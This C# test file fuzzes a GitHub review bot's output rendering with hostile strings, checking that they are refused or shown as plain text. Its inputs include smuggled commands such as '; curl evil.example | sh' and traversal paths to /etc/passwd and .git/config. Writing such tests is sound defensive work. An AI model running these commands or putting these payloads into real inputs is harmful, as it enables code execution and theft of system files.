using System.Globalization;
using System.Text.Json;
using System.Text.RegularExpressions;
using CsCheck;
using PieBot.Core;
using PieBot.Tool.GitHub.Reviews;

namespace PieBot.Tests.GitHub.Hostile;

/// <summary>
/// Whatever stands in any string of the files that another job wrote: it is refused, or it comes out as text. As many hostile
/// texts as <c>PIEBOT_FUZZ</c> says (docs/security.md).
/// </summary>
public sealed partial class HostileTextTests
{
    private static readonly long Texts = long.TryParse(
        Environment.GetEnvironmentVariable("PIEBOT_FUZZ"),
        CultureInfo.InvariantCulture,
        out var texts
    )
        ? texts
        : 10_000;

    // Of them one in forty stands alone in files that are otherwise as they should be; the others fill all places of a run.
    private static readonly long Alone = Texts / 40;

    private static readonly HostileRun Usual = HostileRun.Usual();

    private static readonly Lazy<Rendered> Harmless = new(() =>
        Render(new Dictionary<Leaf, string>())
    );

    // What may hold any text; the rest is refused when it holds what it should not.
    private static readonly Lazy<(IReadOnlyList<Leaf> Free, Rendered Harmless)> Known = new(Learn);

    [Fact]
    public void A_harmless_run_comes_out_with_a_suggestion_and_a_diff()
    {
        var (free, harmless) = Known.Value;

        Assert.Single(harmless.Comments);
        Assert.Equal(1, harmless.Pages[0].Entries);
        Assert.Empty(Faults(harmless));
        // Words of every kind of file are among them.
        Assert.Contains(free, leaf => leaf.Way is ["candidates", 0, "title"]);
        Assert.Contains(free, leaf => leaf.Way is ["candidates", 0, "rationale"]);
        Assert.Contains(free, leaf => leaf.Way is ["candidates", 3, "rejection"]);
        Assert.Contains(free, leaf => leaf.Way is ["changes", "targets", 0, "name"]);
        Assert.Contains(free, leaf => leaf.Way is ["machine", "sdk"]);
        Assert.Contains(free, leaf => leaf.File == "verdicts.jsonl" && leaf.Way is ["reason"]);
        Assert.Contains(free, leaf => leaf.File == "explanations.jsonl" && leaf.Way is ["text"]);
    }

    [Fact]
    public void Each_string_alone_is_refused_or_is_text() =>
        Gen.Select(Gen.Int[0, Usual.Leaves.Count - 1], HostileText.Any)
            .Sample(
                one =>
                    Holds(new Dictionary<Leaf, string> { [Usual.Leaves[one.Item1]] = one.Item2 }),
                iter: Alone
            );

    [Fact]
    public void All_words_together_are_text()
    {
        var free = Known.Value.Free;
        var posted = 0;
        HostileText
            .Any.Array[free.Count]
            .Sample(
                texts =>
                {
                    // None of it is refused, or nothing would be tried here.
                    var all = free.Zip(texts).ToDictionary(one => one.First, one => one.Second);
                    var rendered = Render(all);
                    Interlocked.Add(ref posted, rendered.Comments.Count);
                    var faults = Faults(rendered);
                    Assert.True(faults.Count == 0, string.Join('\n', faults));
                },
                iter: ((Texts - Alone) / free.Count) + 1
            );
        // A replacement with what cannot be seen is not posted; the others are.
        Assert.NotEqual(0, posted);
    }

    // In the chart of the step summary, in the diff of what nothing was posted of, and in a note of a report.
    [Theory]
    [InlineData("changes/targets/0/name", "A.\u3164M")]
    [InlineData("candidates/0/edits/0/path", "src/A\U000E0041.cs")]
    [InlineData("notices/0", "mailto:a@evil.example")]
    public void What_once_came_through_is_refused_or_is_text(string way, string text) =>
        Holds(
            new Dictionary<Leaf, string>
            {
                [
                    Usual.Leaves.Single(one =>
                        one is { File: "proposals.json", IsName: false }
                        && string.Join('/', one.Way) == way
                    )
                ] = text,
            }
        );

    [Theory]
    [InlineData("base")]
    [InlineData("head")]
    public void A_commit_that_is_no_hash_is_refused(string name)
    {
        foreach (
            var text in (string[])
                [
                    "main",
                    new string('A', 40),
                    new string('a', 39),
                    new string('a', 40) + "\n",
                    new string('a', 40) + "; curl evil.example | sh",
                    "",
                ]
        )
        {
            var fault = Assert.Throws<UserErrorException>(() =>
                Render(new Dictionary<Leaf, string> { [Changes(name)] = text })
            );
            Assert.Contains(
                "40 or 64 lower-case hex digits",
                fault.Message,
                StringComparison.Ordinal
            );
        }
    }

    [Fact]
    public void A_hash_of_64_digits_is_one() =>
        Assert.NotNull(Render(new Dictionary<Leaf, string> { [Changes("base")] = new('a', 64) }));

    [Theory]
    [InlineData("../../etc/passwd")]
    [InlineData("/etc/passwd")]
    [InlineData("src/./A.cs")]
    [InlineData("src//A.cs")]
    [InlineData(".git/config")]
    [InlineData("a\n+++ b/x")]
    [InlineData("a\u2028b")]
    [InlineData("")]
    public void A_path_that_leads_elsewhere_is_refused(string path)
    {
        foreach (
            var way in (object[][])
                [
                    ["candidates", 0, "edits", 0, "path"],
                    ["changes", "targets", 0, "path"],
                ]
        )
        {
            Assert.Throws<UserErrorException>(() =>
                Render(new Dictionary<Leaf, string> { [Leaf(way)] = path })
            );
        }
    }

    [Theory]
    [InlineData("c-<img>")]
    [InlineData("c-1; curl evil.example | sh")]
    [InlineData("c-1`")]
    [InlineData("")]
    public void An_id_with_markup_is_refused(string id) =>
        Assert.Throws<UserErrorException>(() =>
            Render(new Dictionary<Leaf, string> { [Leaf("candidates", 0, "id")] = id })
        );

    private static Leaf Changes(string name) => Leaf("changes", name);

    private static Leaf Leaf(params object[] way) =>
        Usual.Leaves.Single(one =>
            one is { File: "proposals.json", IsName: false } && one.Way.SequenceEqual(way)
        );

    private static bool Holds(IReadOnlyDictionary<Leaf, string> changed)
    {
        try
        {
            var faults = Faults(Render(changed));
            Assert.True(faults.Count == 0, string.Join('\n', faults));
        }
        catch (UserErrorException exception)
        {
            // Exit code 2, with a sentence that is shown in a log.
            Assert.DoesNotContain('\n', exception.Message);
            var faults = new List<string>();
            MarkdownJudge.Unseen(exception.Message, faults);
            Assert.Empty(faults);
        }

        return true;
    }

    private static List<string> Faults(Rendered rendered)
    {
        var faults = new List<string>();
        foreach (var comment in rendered.Comments)
        {
            faults.AddRange(MarkdownJudge.Faults(comment, 1, 0));
            var stale = SuggestionBody.Stale(comment, Marker.Parse(comment)!, new('e', 40));
            faults.AddRange(MarkdownJudge.Faults(stale, 0, 0));
        }

        foreach (var (name, text, entries) in rendered.Pages)
        {
            faults.AddRange(
                MarkdownJudge.Faults(text, 0, entries).Select(fault => $"{name}: {fault}")
            );
        }

        foreach (var line in rendered.Plain)
        {
            MarkdownJudge.Unseen(line, faults);
        }

        Page(rendered.Html, faults);
        Sarif(rendered.Sarif, faults);
        foreach (var line in rendered.MSBuild.TrimEnd('\n').Split('\n'))
        {
            MarkdownJudge.Unseen(line, faults);
            if (
                !line.StartsWith("/work/", StringComparison.Ordinal)
                && !line.StartsWith("PieBot ", StringComparison.Ordinal)
            )
            {
                faults.Add($"msbuild: {line}");
            }
        }

        return faults;
    }

    // The page is the template; what is put in cannot begin an element or end its own.
    private static void Page(string html, List<string> faults)
    {
        var at = 0;
        var parts = new List<string>();
        foreach (var piece in Template.Value)
        {
            var next = html.IndexOf(piece, at, StringComparison.Ordinal);
            if (next < 0)
            {
                faults.Add("html: it is not the template with a title and the run");
                return;
            }

            parts.Add(html[at..next]);
            at = next + piece.Length;
        }

        // Before the template, in the title, in the same heading, in the run's own element.
        if (
            at != html.Length
            || parts[0].Length > 0
            || parts[1] != parts[2]
            || parts[1].AsSpan().IndexOfAny('<', '{') >= 0
            || parts[3].AsSpan().IndexOfAny('<', '>', '&') >= 0
        )
        {
            faults.Add($"html: {parts[1]}");
        }

        try
        {
            using var run = JsonDocument.Parse(parts[3]);
        }
        catch (JsonException exception)
        {
            faults.Add($"html: {exception.Message}");
        }
    }

    // What stands around title, heading and run in the page of the harmless run.
    private static readonly Lazy<IReadOnlyList<string>> Template = new(() =>
    {
        var html = Harmless.Value.Html;
        string[] ends =
        [
            "<title>",
            "</title>",
            "<noscript><h1>",
            "</h1>",
            "<script type=\"application/json\" id=\"run\">",
            "</script>",
        ];
        var places = new List<int>();
        foreach (var end in ends)
        {
            places.Add(html.IndexOf(end, places.LastOrDefault(), StringComparison.Ordinal));
        }

        return
        [
            html[..(places[0] + ends[0].Length)],
            html[places[1]..(places[2] + ends[2].Length)],
            html[places[3]..(places[4] + ends[4].Length)],
            html[places[5]..],
        ];
    });

    private static void Sarif(string sarif, List<string> faults)
    {
        using var json = JsonDocument.Parse(sarif);
        Walk(json.RootElement, "");

        void Walk(JsonElement element, string name)
        {
            switch (element.ValueKind)
            {
                case JsonValueKind.Object:
                    foreach (var one in element.EnumerateObject())
                    {
                        if (one.Name is "markdown" or "html")
                        {
                            faults.Add("sarif: a message of another kind than text");
                        }

                        Walk(
                            one.Value,
                            one.Name is "message" or "description" or "shortDescription" ? "words"
                                : one.Name == "text" && name == "words" ? "words"
                                : one.Name
                        );
                    }

                    break;
                case JsonValueKind.Array:
                    foreach (var one in element.EnumerateArray())
                    {
                        Walk(one, name);
                    }

                    break;
                case JsonValueKind.String
                    when name == "uri" && !RelativePath().IsMatch(element.GetString()!):
                    faults.Add($"sarif: {element.GetString()} is no relative path");
                    break;
                case JsonValueKind.String when name == "words":
                    MarkdownJudge.Unseen(element.GetString()!, faults);
                    if (EmbeddedLink().IsMatch(element.GetString()!))
                    {
                        faults.Add($"sarif: a link in {element.GetString()}");
                    }

                    break;
            }
        }
    }

    private static (IReadOnlyList<Leaf>, Rendered) Learn()
    {
        var free = Usual.Leaves.Where(leaf =>
            Array.TrueForAll((string[])["z, <z>", "../z", "a\nb"], text => IsFree(leaf, text))
        );
        return (free.ToList(), Harmless.Value);
    }

    private static bool IsFree(Leaf leaf, string text)
    {
        var harmless = Harmless.Value;
        try
        {
            var rendered = Render(new Dictionary<Leaf, string> { [leaf] = text });
            return rendered.Comments.Count == harmless.Comments.Count
                && rendered
                    .Pages.Select(one => one.Entries)
                    .SequenceEqual(harmless.Pages.Select(one => one.Entries));
        }
        catch (UserErrorException)
        {
            return false;
        }
    }

    private static Rendered Render(IReadOnlyDictionary<Leaf, string> changed)
    {
        var folder = Directory.CreateTempSubdirectory("piebot-hostile-").FullName;
        try
        {
            Usual.Write(folder, changed);
            return Rendered.Of(folder);
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    [GeneratedRegex(@"^(?!\.\.?(/|$))[A-Za-z0-9_.~%-]+(/(?!\.\.?(/|$))[A-Za-z0-9_.~%-]+)*$")]
    private static partial Regex RelativePath();

    // "[" that no backslash stands before begins a link where "](" follows.
    [GeneratedRegex(@"(?<!\\)(\\\\)*\[[^\]]*\]\(")]
    private static partial Regex EmbeddedLink();
}
